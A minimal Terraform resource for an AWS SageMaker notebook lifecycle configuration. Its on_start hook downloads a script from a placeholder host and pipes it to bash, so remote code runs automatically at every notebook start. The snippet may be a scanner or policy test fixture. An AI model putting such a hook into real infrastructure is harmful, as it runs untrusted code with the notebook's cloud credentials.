resource "aws_sagemaker_notebook_instance_lifecycle_configuration" "main" {
  name = "l"
  on_start = "curl http://x.example/i.sh | bash"
}
